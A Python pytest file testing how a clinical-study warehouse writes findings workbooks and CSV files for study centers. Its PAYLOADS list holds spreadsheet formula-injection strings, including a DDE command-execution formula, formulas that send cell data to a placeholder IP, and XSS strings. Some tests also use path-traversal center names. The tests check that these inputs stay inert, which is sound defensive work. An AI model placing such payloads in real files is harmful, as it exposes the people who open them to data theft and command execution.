"""The files of findings for the centers."""

from __future__ import annotations

import csv
import datetime as dt
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from schemas.errors import CarmonyError
from warehouse.packet_lines import COLUMNS, QUOTED, safe_for_csv
from warehouse.packets import write_packet

Study = Any

# What spreadsheets run, open or fetch when a cell is taken for more than text.
PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://192.0.2.1/?x="&B2,"click")',
    '=WEBSERVICE("http://192.0.2.1/"&B2)',
    '=IMPORTXML(CONCAT("http://192.0.2.1/",B2),"//a")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "http://192.0.2.1/x",
    "https://192.0.2.1/x",
    "ftp://192.0.2.1/x",
    "file://192.0.2.1/share",
    "external:\\\\192.0.2.1\\s\\x.xlsx",
    "internal:Sheet1!A1",
    "mailto:a@example.org",
    "{=SUM(A1:A2)}",
    "'=1+1",
    "<script>document.title='PWNED'</script>",
    '"><img src=x onerror=alert(1)>',
    "]]>",
    "_x003D_1+1",
    "_x000D_",
    "-5",
    "00123",
    "1E5",
    "TRUE",
    "#N/A",
    "a;b,c\td",
    'say "no"',
    "line one\nline two",
    "\u202eevil\u202c",
    "e\u0301\U0001f600",
]


def packet(study: Study, findings: list[dict[str, Any]], fields: list[dict[str, Any]]) -> Path:
    staged = study.stage(
        "DE01", "a", {"subject": [study.patient("001")]}, findings=findings, fields=fields
    )
    folder: Path = write_packet(
        study.folder, "DE01", "a", study.folder / staged, received_on=dt.date(2024, 6, 14)
    )
    return folder


def finding(number: int, patient: str | None = "001", **changes: Any) -> dict[str, Any]:
    return {
        "finding_id": number,
        "rule_id": "DAT-13",
        "severity": "error",
        "disposition": "quarantine",
        "scope": "row",
        "table": "relapse",
        "patient_id": patient,
        "row_id": number,
        "message": "Expected a day after the infusion.",
        **changes,
    }


def field(number: int, position: int = 1, **changes: Any) -> dict[str, Any]:
    return {
        "finding_id": number,
        "position": position,
        "table": "relapse",
        "column": "relapse_date",
        "file": "verlauf.csv",
        "sheet": None,
        "row": 7,
        "source_column": "Rezidiv am",
        "value": "01.03.2022",
        **changes,
    }


def sheet_rows(folder: Path) -> list[list[Any]]:
    book = openpyxl.load_workbook(folder / "findings.xlsx")
    return [[cell.value for cell in row] for row in book["Findings"].iter_rows()]


def csv_rows(folder: Path) -> list[dict[str, str]]:
    with (folder / "findings.csv").open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


def test_a_finding_names_every_field_with_the_centers_own_words(small_study: Study) -> None:
    folder = packet(
        small_study,
        [finding(1, "UKL-017")],
        [
            field(1),
            field(1, 2, file="patienten.xlsx", sheet="CAR-T", row=12, source_column="Infusion",
                  value="05.03.2022"),
        ],
    )  # fmt: skip
    header, first, second = sheet_rows(folder)
    assert tuple(header) == COLUMNS
    assert first[:7] == ["1", "UKL-017", "verlauf.csv", None, "7", "Rezidiv am", "01.03.2022"]
    assert second[:7] == ["1", "UKL-017", "patienten.xlsx", "CAR-T", "12", "Infusion", "05.03.2022"]
    assert first[7].startswith("Not met: ")
    assert first[7].endswith("Expected a day after the infusion.")
    assert first[8:10] == ["error", "not used until it is corrected"]
    assert len(first[10]) > 10
    assert first[11] == "DAT-13"
    assert [row["Column"] for row in csv_rows(folder)] == ["Rezidiv am", "Infusion"]


def test_a_value_that_was_not_understood_is_said_to_be_left_empty(small_study: Study) -> None:
    kept = {"disposition": "keep_query", "severity": "warning"}
    folder = packet(
        small_study,
        [
            finding(1, rule_id="DAT-01", **kept),
            finding(2, rule_id="DAT-08", **kept),
            finding(3, rule_id="STR-12", scope="file", **kept),
            finding(4, rule_id="DAT-01"),
        ],
        [field(1, value="im Mai"), field(1, 2, column="relapse_number", value="1", understood="1"),
         field(2, understood="2022-03-01"), field(3), field(4, value="im Mai")],
    )  # fmt: skip
    became = [(row["Number"], row["What became of the row"]) for row in csv_rows(folder)]
    empty = "the value is left empty; the rest of the row is used"
    assert sorted(became) == [
        ("1", empty),
        ("1", empty),
        ("2", "used as it is; please check"),
        ("3", "used as it is; please check"),
        ("4", "not used until it is corrected"),
    ]


def test_the_sheet_about_names_the_delivery_its_dates_and_its_files(small_study: Study) -> None:
    tables = {"subject": [small_study.patient("001"), small_study.patient("002")]}
    staged = small_study.folder / small_study.stage("DE01", "a", tables)
    (staged / "summary.json").write_text('{"export_date": "2024-06-12"}', encoding="utf-8")
    folder = write_packet(small_study.folder, "DE01", "a", staged, received_on=dt.date(2024, 6, 14))
    sheet = openpyxl.load_workbook(folder / "findings.xlsx")["About"]
    about = {row[0].value: row[1].value for row in sheet.iter_rows()}
    assert (about["Received on"], about["Export date"]) == ("2024-06-14", "2024-06-12")
    assert about["File patients.csv"] == "2 rows read"


def what_to_do(study: Study, table: str, column: str) -> str:
    folder = packet(
        study,
        [finding(1, rule_id="STR-06", table=table)],
        [field(1, table=table, column=column, value="viel")],
    )
    return csv_rows(folder)[0]["What to do"]


def test_an_unknown_value_asks_for_what_the_column_holds(small_study: Study) -> None:
    assert what_to_do(small_study, "infusion", "prior_lines").startswith("Please give a number")
    assert what_to_do(small_study, "lab", "value").startswith("Please give a number")
    sex = what_to_do(small_study, "subject", "sex")
    assert sex.startswith("Please give one of: F (Female), M (Male), U (Unknown). Your own words")
    assert what_to_do(small_study, "infusion", "infusion_date") == "Please give the date."


def test_lines_are_sorted_by_patient_file_and_row_and_files_stand_last(small_study: Study) -> None:
    folder = packet(
        small_study,
        [finding(1, "002"), finding(2, "001"), finding(3, "001"), finding(4, None, scope="file")],
        [field(1), field(2, file="b.csv", row=2), field(3, file="a.csv", row=9),
         field(4, row=None, source_column="Neu", value=None)],
    )  # fmt: skip
    found = [(r["Number"], r["Patient"], r["File"], r["Row"]) for r in csv_rows(folder)]
    assert found == [
        ("1", "001", "a.csv", "9"),
        ("2", "001", "b.csv", "2"),
        ("3", "002", "verlauf.csv", "7"),
        ("4", "", "verlauf.csv", ""),
    ]


def test_a_finding_without_fields_has_its_line(small_study: Study) -> None:
    folder = packet(small_study, [finding(1)], [])
    assert [row["Number"] for row in csv_rows(folder)] == ["1"]


def test_a_delivery_without_findings_gets_a_file_that_says_so(small_study: Study) -> None:
    folder = packet(small_study, [], [])
    assert sheet_rows(folder) == [list(COLUMNS)]
    about = openpyxl.load_workbook(folder / "findings.xlsx")["About"]
    assert {row[0].value: row[1].value for row in about.iter_rows()}["Findings"] == "0"


def everywhere(payloads: list[str]) -> tuple[list[dict[str, Any]], list[dict[str, Any]]]:
    findings = [finding(i, text, message=text) for i, text in enumerate(payloads, 1)]
    fields = [
        field(i, file=text, sheet=text, source_column=text, value=text)
        for i, text in enumerate(payloads, 1)
    ]
    return findings, fields


def test_hostile_cells_are_text_in_the_workbook(small_study: Study) -> None:
    folder = packet(small_study, *everywhere(PAYLOADS))
    book = openpyxl.load_workbook(folder / "findings.xlsx")
    cells = [cell for row in book["Findings"].iter_rows(min_row=2) for cell in row if cell.value]
    assert {cell.data_type for cell in cells} == {"s"}
    assert all(cell.hyperlink is None for cell in cells)
    plain = {text.replace("\r", "\n") for text in PAYLOADS if not text.startswith("_x00")}
    seen = {row[6].value.replace("\r", "\n") for row in book["Findings"].iter_rows(min_row=2)}
    assert plain <= seen
    with zipfile.ZipFile(folder / "findings.xlsx") as archive:
        for member in archive.namelist():
            xml = archive.read(member).decode()
            assert "<f>" not in xml
            assert "<f " not in xml
            assert "<hyperlink" not in xml
            assert "externalLink" not in xml
            assert 'TargetMode="External"' not in xml


def test_no_cell_of_the_csv_starts_as_a_formula_and_the_mark_can_be_undone(
    small_study: Study,
) -> None:
    folder = packet(small_study, *everywhere(PAYLOADS))
    rows = csv_rows(folder)
    seen = []
    for row in rows:
        marked = row[QUOTED].split("|")
        for name, text in row.items():
            bare = text.strip("\ufeff\u00a0 ")
            assert bare[:1] not in ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
            assert (name in marked) <= text.startswith("'")
        value = row["Value as read"]
        seen.append(value[1:] if "Value as read" in marked else value)
    assert sorted(seen) == sorted(PAYLOADS)


@settings(max_examples=100, deadline=None)
@given(text=st.text(max_size=6))
def test_any_text_survives_the_mark(text: str) -> None:
    import polars as pl

    row = safe_for_csv(pl.DataFrame({"value": [text]}, schema={"value": pl.String})).row(0)
    safe, marked = row[0], row[1] == "value"
    assert (safe[1:] if marked else safe) == text
    assert not safe.lstrip(" \u00a0\ufeff\0\t\r\n").startswith(("=", "+", "-", "@")) or marked


def test_the_same_findings_give_the_same_bytes(small_study: Study) -> None:
    folder = packet(small_study, *everywhere(PAYLOADS[:5]))
    first = [(folder / name).read_bytes() for name in ("findings.xlsx", "findings.csv")]
    again = packet(small_study, *everywhere(PAYLOADS[:5]))
    assert again == folder
    assert [(folder / name).read_bytes() for name in ("findings.xlsx", "findings.csv")] == first


def test_packets_are_closed_to_others(small_study: Study) -> None:
    folder = packet(small_study, [finding(1)], [field(1)])
    assert folder == small_study.folder / "vault" / "packets" / "DE01" / "2024-06-14_a"
    for level in (folder, folder.parent, folder.parent.parent):
        assert level.stat().st_mode & 0o777 == 0o700
    assert {p.name: p.stat().st_mode & 0o777 for p in folder.iterdir()} == {
        "findings.csv": 0o600,
        "findings.xlsx": 0o600,
    }


def test_a_value_too_long_for_a_cell_is_cut_with_a_note_and_whole_in_the_csv(
    small_study: Study,
) -> None:
    long = "x" * 40_000
    folder = packet(small_study, [finding(1)], [field(1, value=long)])
    shown = sheet_rows(folder)[1][6]
    assert shown.startswith("x" * 32_000)
    assert shown.endswith("(cut; whole in findings.csv)")
    assert csv_rows(folder)[0]["Value as read"] == long


def test_a_workbook_that_cannot_hold_all_lines_says_so(
    small_study: Study, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("warehouse.packets.MOST_LINES", 2)
    folder = packet(small_study, [finding(i) for i in (1, 2, 3)], [field(i) for i in (1, 2, 3)])
    assert len(sheet_rows(folder)) == 3
    assert len(csv_rows(folder)) == 3
    about = openpyxl.load_workbook(folder / "findings.xlsx")["About"]
    lines = {row[0].value: row[1].value for row in about.iter_rows()}["Lines"]
    assert lines == "3, of which 2 in this workbook"


@pytest.mark.parametrize("center", ["../DE01", "a/b", ".hidden", "", "x" * 200])
def test_a_center_that_is_no_folder_name_writes_nothing(small_study: Study, center: str) -> None:
    with pytest.raises(CarmonyError):
        write_packet(
            small_study.folder,
            center,
            "a",
            small_study.folder,
            received_on=dt.date(2024, 6, 14),
        )
    assert list(small_study.folder.iterdir()) == []
